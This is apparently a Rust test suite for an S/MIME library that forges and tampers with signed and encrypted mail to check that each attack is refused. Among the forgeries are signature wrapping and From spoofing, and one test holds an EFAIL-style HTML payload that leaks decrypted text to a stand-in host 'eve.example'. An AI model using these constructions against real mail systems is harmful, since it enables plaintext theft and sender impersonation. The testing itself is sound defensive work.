//! Mail that somebody wants to pass for what it is not. Each test takes sound messages of our own and does the one thing to
//! them that its row of the threat table says.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use common::people::{Authority, now};
use smime::asn1::ber::Reader;
use smime::asn1::framing::Encoding;
use smime::cms::signer_info::Integrity;
use smime::crypto::algorithm::ContentCipher;
use smime::open::report::{Address, Closed, Coverage, LayerKind};
use smime::open::requirement::Shortfall;
use smime::policy::policy::AlreadyProtected;
use smime::{
    Certificates, Encryptor, Identity, Keyring, Message, Opened, Opener, Policy, RecipientPlan, Requirement, Signer,
};

const MAIL: &str = "From: Alice <alice@example.com>\r\nTo: bob@example.com\r\nSubject: pay\r\nContent-Type: text/plain\r\n\r\nPay 10 euros.\r\n";

struct World {
    ca: Authority,
    alice: Identity,
    bob: Identity,
    eve: Identity,
}

impl World {
    fn new() -> Self {
        let ca = Authority::root("Test CA");
        let (alice, bob) = (ca.person("Alice", "alice@example.com"), ca.person("Bob", "bob@example.com"));
        let eve = ca.person("Eve", "eve@example.com");
        Self { ca, alice, bob, eve }
    }

    fn signed(&self, mail: &str) -> String {
        let policy = Policy::default();
        let signer = Signer::new(&self.alice, &policy).unwrap();
        String::from_utf8(signer.sign(&Message::parse(mail.as_bytes()).unwrap(), now()).unwrap()).unwrap()
    }

    fn opaque(&self, mail: &str) -> String {
        let policy = Policy::default();
        let signer = Signer::new(&self.alice, &policy).unwrap().opaque();
        String::from_utf8(signer.sign(&Message::parse(mail.as_bytes()).unwrap(), now()).unwrap()).unwrap()
    }

    /// In DER, whose last octets are those of the content.
    fn sealed(&self, mail: &str, cipher: ContentCipher) -> String {
        self.sealed_in(Encoding::Der, mail, cipher)
    }

    fn sealed_in(&self, encoding: Encoding, mail: &str, cipher: ContentCipher) -> String {
        let mut policy = Policy::default();
        policy.content_cipher = cipher;
        policy.encoding = encoding;
        let directory = Certificates(vec![self.bob.certificate().clone()]);
        let plan = RecipientPlan::resolve(&["bob@example.com".parse().unwrap()], &directory, &policy, None, now());
        let encryptor = Encryptor::new(&plan.all().unwrap(), &policy);
        String::from_utf8(encryptor.encrypt(&Message::parse(mail.as_bytes()).unwrap()).unwrap()).unwrap()
    }

    /// What became of a message, and what the first reason's code is, under a requirement.
    fn judge(&self, mail: &str, requirement: Requirement) -> Result<Vec<u8>, (Shortfall, String)> {
        let (policy, trust, ring) = (Policy::default(), self.ca.trust(), Keyring::new(vec![self.bob.clone()]));
        let opened: Opened<'_> = Opener::new(&trust, &policy).with_keys(&ring).open(mail.as_bytes(), now()).unwrap();
        match opened.require(requirement) {
            Ok(trusted) => Ok(trusted.message().unwrap()),
            Err(refused) => {
                Err((refused.shortfall(), refused.reasons().first().map(|r| r.code).unwrap_or_default().to_owned()))
            }
        }
    }

    fn refused(&self, mail: &str, requirement: Requirement) -> (Shortfall, String) {
        self.judge(mail, requirement).expect_err("it passed")
    }
}

/// The header and the decoded CMS structure of a mail that is one.
fn taken_apart(mail: &str) -> (&str, Vec<u8>) {
    let (header, body) = mail.split_once("\r\n\r\n").unwrap();
    let encoding = smime::mime::transfer::TransferEncoding::Base64;
    let strictness = smime::mime::transfer::Strictness::Strict;
    (header, smime::mime::transfer::decode_slice(body.as_bytes(), encoding, strictness).unwrap())
}

fn put_together(header: &str, cms: &[u8]) -> String {
    use std::io::Write;
    let mut writer = smime::mime::transfer::Base64Writer::new(Vec::new());
    writer.write_all(cms).unwrap();
    format!("{header}\r\n\r\n{}", String::from_utf8(writer.finish().unwrap()).unwrap())
}

#[test]
fn the_sound_messages_pass() {
    let world = World::new();
    let content = b"Content-Type: text/plain\r\n\r\nPay 10 euros.\r\n".to_vec();
    for mail in [world.signed(MAIL), world.opaque(MAIL)] {
        assert_eq!(world.judge(&mail, Requirement::SignedBySender).unwrap(), content);
        let sealed = world.sealed(&mail, ContentCipher::Aes256Cbc);
        assert_eq!(world.judge(&sealed, Requirement::SignedBySender).unwrap(), content);
        let lf = mail.replace("\r\n", "\n");
        assert_eq!(
            world.judge(&lf, Requirement::SignedBySender).unwrap(),
            content,
            "line ends of the transport do not matter"
        );
    }
}

#[test]
fn altered_content_is_refused_in_both_forms() {
    let world = World::new();
    let clear = world.signed(MAIL).replace("Pay 10", "Pay 99");
    assert_eq!(
        world.refused(&clear, Requirement::Unaltered),
        (Shortfall::Altered, "message_digest_mismatch".to_owned())
    );
    let mail = world.opaque(MAIL);
    let (header, mut cms) = taken_apart(&mail);
    let at = cms.windows(6).position(|w| w == b"Pay 10").unwrap();
    cms[at + 4] = b'9';
    let altered = put_together(header, &cms);
    assert_eq!(world.refused(&altered, Requirement::Unaltered).0, Shortfall::Altered);
}

#[test]
fn sec_001_a_detached_signature_with_a_content_of_its_own() {
    let world = World::new();
    let (_, opaque) = {
        let mail = world.opaque(MAIL);
        let (header, cms) = taken_apart(&mail);
        (header.to_owned(), cms)
    };
    let encoded = put_together("", &opaque);
    let clear = world.signed(MAIL);
    let start = clear.find("filename=\"smime.p7s\"\r\n\r\n").unwrap() + "filename=\"smime.p7s\"\r\n\r\n".len();
    let end = clear[start..].find("\r\n--").unwrap() + start;
    let spoofed = format!("{}{}{}", &clear[..start], encoded.trim_start(), &clear[end..]);
    for mail in [spoofed.clone(), spoofed.replace("Pay 10", "Pay 99")] {
        assert_eq!(
            world.refused(&mail, Requirement::Unaltered),
            (Shortfall::Altered, "content_present_in_detached".to_owned())
        );
    }
}

#[test]
fn sec_010_one_good_signature_does_not_carry_a_bad_one() {
    let world = World::new();
    let policy = Policy::default();
    let message = Message::parse(MAIL.as_bytes()).unwrap();
    let both = Signer::new(&world.alice, &policy).unwrap().and(&world.eve).unwrap();
    let signed = String::from_utf8(both.sign(&message, now()).unwrap()).unwrap();
    // Both are intact, and one of them is the sender.
    assert!(world.judge(&signed, Requirement::SignedBySender).is_ok());
    // Signed by Alice and by somebody whom nobody vouches for.
    let stranger = Authority::root("Another CA").person("Alice", "alice@example.com");
    let mixed = Signer::new(&world.alice, &policy).unwrap().and(&stranger).unwrap().sign(&message, now()).unwrap();
    let mixed = String::from_utf8(mixed).unwrap();
    assert_eq!(world.refused(&mixed, Requirement::Trusted).0, Shortfall::NotTrusted);
}

#[test]
fn sec_012_no_signer_signs_nothing() {
    let world = World::new();
    let mail = world.opaque(MAIL);
    let (header, cms) = taken_apart(&mail);
    // The SET OF SignerInfo is the last element; an empty one takes its place.
    let mut info = Reader::single(&cms, "x").unwrap().sequence("x").unwrap();
    let kind = info.required_any("x").unwrap().raw().to_vec();
    let mut data = info.required_any("x").unwrap().explicit("x").unwrap().sequence("x").unwrap();
    let mut fields = Vec::new();
    while let Some(field) = data.next_element().unwrap() {
        fields.push(field.raw().to_vec());
    }
    *fields.last_mut().unwrap() = vec![0x31, 0];
    let data = smime::asn1::der::sequence(&fields);
    let empty = smime::asn1::der::sequence(&[kind, smime::asn1::der::explicit(0, &data)]);
    let spoofed = put_together(header, &empty);
    assert_eq!(world.refused(&spoofed, Requirement::Signed), (Shortfall::NothingSigned, "no_signers".to_owned()));
}

#[test]
fn sec_014_nobody_vouches_for_the_signer() {
    let world = World::new();
    let policy = Policy::default();
    let stranger = Authority::root("Test CA").person("Alice", "alice@example.com");
    let signed =
        Signer::new(&stranger, &policy).unwrap().sign(&Message::parse(MAIL.as_bytes()).unwrap(), now()).unwrap();
    let (shortfall, _) = world.refused(&String::from_utf8(signed).unwrap(), Requirement::SignedBySender);
    assert_eq!(shortfall, Shortfall::NotTrusted);
}

#[test]
fn sec_015_a_signed_part_beside_unsigned_text() {
    let world = World::new();
    let signed = world.signed(MAIL);
    let (outer, entity) = signed.split_once("MIME-Version: 1.0\r\n").unwrap();
    let mixed = format!(
        "{outer}MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=outside\r\n\r\n--outside\r\n\r\nPay 99 euros.\r\n--outside\r\n{entity}\r\n--outside--\r\n"
    );
    assert_eq!(world.refused(&mixed, Requirement::Signed), (Shortfall::NothingSigned, "covers_part_only".to_owned()));
    let (policy, trust) = (Policy::default(), world.ca.trust());
    let opened = Opener::new(&trust, &policy).open(mixed.as_bytes(), now()).unwrap();
    let layer = &opened.report().layers[0];
    assert_eq!((layer.path.as_str(), layer.coverage), ("2", Coverage::Part));
    let LayerKind::Signed(signed) = &layer.kind else { panic!("{layer:?}") };
    assert_eq!(signed.signatures[0].integrity, Integrity::Intact);
    // By name, the part comes out alone.
    let opened = Opener::new(&trust, &policy).part("2").open(mixed.as_bytes(), now()).unwrap();
    let content = opened.require(Requirement::Unaltered).map_err(|r| r.reasons().to_vec()).unwrap().message().unwrap();
    assert!(!String::from_utf8(content).unwrap().contains("99"));
}

#[test]
fn sec_017_a_multipart_signed_has_two_parts() {
    let world = World::new();
    let signed = world.signed(MAIL);
    let boundary = signed.split("boundary=\"").nth(1).unwrap().split('"').next().unwrap().to_owned();
    let three = signed.replacen(
        &format!("--{boundary}\r\n"),
        &format!("--{boundary}\r\n\r\nPay 99 euros.\r\n--{boundary}\r\n"),
        1,
    );
    assert_eq!(
        world.refused(&three, Requirement::Unaltered),
        (Shortfall::Unreadable, "multipart_signed_arity".to_owned())
    );
}

#[test]
fn sec_019_text_before_and_after_the_parts_is_not_handed_over() {
    let world = World::new();
    let signed = world.signed(MAIL).replacen("This is a multipart message in MIME format.", "Pay 99 euros to Eve.", 1)
        + "And 99 more.\r\n";
    let (policy, trust) = (Policy::default(), world.ca.trust());
    let opened = Opener::new(&trust, &policy).open(signed.as_bytes(), now()).unwrap();
    assert!(opened.report().findings().any(|n| n.code == "unsigned_preamble_or_epilogue"), "{}", opened.report());
    let content =
        opened.require(Requirement::SignedBySender).map_err(|r| r.reasons().to_vec()).unwrap().message().unwrap();
    assert!(!String::from_utf8(content).unwrap().contains("99"));
}

#[test]
fn sec_021_sec_048_two_meanings_are_an_error() {
    let world = World::new();
    let (policy, trust) = (Policy::default(), world.ca.trust());
    let signed = world.signed(MAIL);
    let twice = [
        signed.replacen("MIME-Version", "Content-Type: text/plain\r\nMIME-Version", 1),
        signed.replacen("To: bob", "From: eve@example.com\r\nTo: bob", 1),
    ];
    for mail in twice {
        let error = Opener::new(&trust, &policy).open(mail.as_bytes(), now()).err().expect("it opened").to_string();
        assert!(error.contains("ambiguous"), "{error}");
    }
}

#[test]
fn sec_046_sec_047_the_signer_is_not_the_sender() {
    let world = World::new();
    let signed = world.signed(MAIL);
    for from in ["eve@example.com", "\"alice@example.com\" <eve@example.com>", "alice@example.com, eve@example.com"] {
        let mail = signed.replacen("Alice <alice@example.com>", from, 1);
        let (shortfall, code) = world.refused(&mail, Requirement::SignedBySender);
        assert_eq!((shortfall, code.as_str()), (Shortfall::NotTrusted, "from_mismatch"), "{from}");
        assert!(world.judge(&mail, Requirement::Trusted).is_ok());
    }
    // A Sender that is not the signer is told, and does not decide.
    let mail = signed.replacen("To: bob", "Sender: eve@example.com\r\nTo: bob", 1);
    let (policy, trust) = (Policy::default(), world.ca.trust());
    let opened = Opener::new(&trust, &policy).open(mail.as_bytes(), now()).unwrap();
    let LayerKind::Signed(layer) = &opened.report().layers[0].kind else { panic!() };
    let answers: Vec<_> = layer.signatures[0].addresses.iter().map(|a| (a.header, a.answer)).collect();
    assert_eq!(answers, [("From", Address::Matches), ("Sender", Address::Differs)]);
    assert!(opened.require(Requirement::SignedBySender).is_ok());
}

#[test]
fn sec_043_layers_are_counted() {
    let world = World::new();
    let mut policy = Policy::default();
    policy.already_protected = AlreadyProtected::Wrap;
    let signer = Signer::new(&world.alice, &policy).unwrap().opaque();
    let mut mail = MAIL.as_bytes().to_vec();
    for _ in 0..9 {
        let wrapped = signer.sign(&Message::parse(&mail).unwrap(), now()).unwrap();
        mail = wrapped;
    }
    let mail = String::from_utf8(mail).unwrap();
    assert_eq!(world.refused(&mail, Requirement::None), (Shortfall::Unreadable, "too_many_layers".to_owned()));
}

#[test]
fn sec_061_an_encrypted_part_beside_html_stays_closed() {
    let world = World::new();
    let sealed = world.sealed(MAIL, ContentCipher::Aes256Cbc);
    let (outer, entity) = sealed.split_once("MIME-Version: 1.0\r\n").unwrap();
    let efail = format!(
        "{outer}Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<img src=\"http://eve.example/\r\n--x\r\n{entity}\r\n--x\r\nContent-Type: text/html\r\n\r\n\">\r\n--x--\r\n"
    );
    let content = world.judge(&efail, Requirement::None).unwrap();
    assert_eq!(content, efail.as_bytes(), "the message as it is, nothing decrypted into it");
    let (policy, trust, ring) = (Policy::default(), world.ca.trust(), Keyring::new(vec![world.bob.clone()]));
    let opener = Opener::new(&trust, &policy).with_keys(&ring);
    let opened = opener.open(efail.as_bytes(), now()).unwrap();
    let layer = &opened.report().layers[0];
    assert_eq!((layer.path.as_str(), layer.reasons[0].code), ("2", "encrypted_part_not_root"));
    let opened = opener.part("2").open(efail.as_bytes(), now()).unwrap();
    let content = opened.require(Requirement::None).map_err(|r| r.reasons().to_vec()).unwrap().message().unwrap();
    assert_eq!(content, b"Content-Type: text/plain\r\n\r\nPay 10 euros.\r\n");
    let error = opener.part("7").open(efail.as_bytes(), now()).err().unwrap().to_string();
    assert_eq!(error, "there is no part 7; the message has parts 1, 2, 3");
}

#[test]
fn sec_063_an_authenticated_content_is_not_opened_as_a_malleable_one() {
    let world = World::new();
    let mail = world.sealed(MAIL, ContentCipher::Aes256Gcm);
    let (header, cms) = taken_apart(&mail);
    // Any bit of the ciphertext or of the tag.
    for at in [cms.len() - 1, cms.len() - 20, cms.len() - 40] {
        let mut altered = cms.clone();
        altered[at] ^= 1;
        let (shortfall, code) = world.refused(&put_together(header, &altered), Requirement::None);
        assert_eq!((shortfall, code.as_str()), (Shortfall::CannotDecrypt, "decrypt_failed"));
    }
    // The algorithm of another structure inside this one is refused before any key is used (SEC-64).
    let gcm = [0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x01, 0x2e];
    let at = cms.windows(9).position(|w| w == gcm).unwrap();
    let mut cbc = cms.clone();
    cbc[at + 8] = 0x2a;
    assert_eq!(world.refused(&put_together(header, &cbc), Requirement::None).0, Shortfall::Unreadable);
}

#[test]
fn sec_072_what_is_for_somebody_else_says_so() {
    let world = World::new();
    let mail = world.sealed(MAIL, ContentCipher::Aes256Cbc);
    let (policy, trust, ring) = (Policy::default(), world.ca.trust(), Keyring::new(vec![world.eve.clone()]));
    let opened = Opener::new(&trust, &policy).with_keys(&ring).open(mail.as_bytes(), now()).unwrap();
    match &opened.report().closed {
        Some(Closed::CannotDecrypt(reason)) => {
            assert_eq!(reason.code, "not_encrypted_to_us");
            assert!(reason.text.contains("CN=Test CA"), "{reason}");
        }
        other => panic!("{other:?}"),
    }
    assert!(opened.require(Requirement::None).is_err());
}

#[test]
fn sec_080_every_failure_behind_the_key_reads_alike() {
    let world = World::new();
    let mail = world.sealed(MAIL, ContentCipher::Aes256Cbc);
    let (header, cms) = taken_apart(&mail);
    let mut answers = std::collections::HashSet::new();
    // The wrapped key, the last block (padding), the block before it.
    let wrapped = cms.windows(4).position(|w| w == [0x04, 0x28, cms[0], cms[1]]).unwrap_or(cms.len() - 150);
    for at in [cms.len() - 1, cms.len() - 17, wrapped] {
        let mut altered = cms.clone();
        altered[at] ^= 0x80;
        let (policy, trust, ring) = (Policy::default(), world.ca.trust(), Keyring::new(vec![world.bob.clone()]));
        let altered = put_together(header, &altered);
        let opened = Opener::new(&trust, &policy).with_keys(&ring).open(altered.as_bytes(), now()).unwrap();
        if let Some(Closed::CannotDecrypt(reason)) = &opened.report().closed {
            answers.insert(reason.text.clone());
        }
    }
    assert_eq!(answers.len(), 1, "{answers:?}");
}

#[test]
fn truncated_and_garbled_messages_never_panic_and_never_pass() {
    let world = World::new();
    for mail in [
        world.signed(MAIL),
        world.opaque(MAIL),
        world.sealed(MAIL, ContentCipher::Aes256Cbc),
        world.sealed(MAIL, ContentCipher::Aes256Gcm),
        world.sealed_in(Encoding::Ber, MAIL, ContentCipher::Aes256Cbc),
        world.sealed_in(Encoding::Ber, MAIL, ContentCipher::Aes256Gcm),
    ] {
        let (policy, trust, ring) = (Policy::default(), world.ca.trust(), Keyring::new(vec![world.bob.clone()]));
        let opener = Opener::new(&trust, &policy).with_keys(&ring);
        for cut in (0..mail.len() - 4).step_by(7) {
            if let Ok(opened) = opener.open(&mail.as_bytes()[..cut], now()) {
                let whole = opened
                    .report()
                    .covering_signatures()
                    .any(|l| l.signatures.iter().any(|s| s.integrity == Integrity::Intact));
                assert!(!whole || cut > mail.len() - 80, "cut at {cut} of {}", mail.len());
            }
        }
        for at in (0..mail.len()).step_by(11) {
            let mut bytes = mail.clone().into_bytes();
            bytes[at] = bytes[at].wrapping_add(1);
            let _ = opener.open(&bytes, now()).map(|o| o.report().to_string());
        }
    }
}
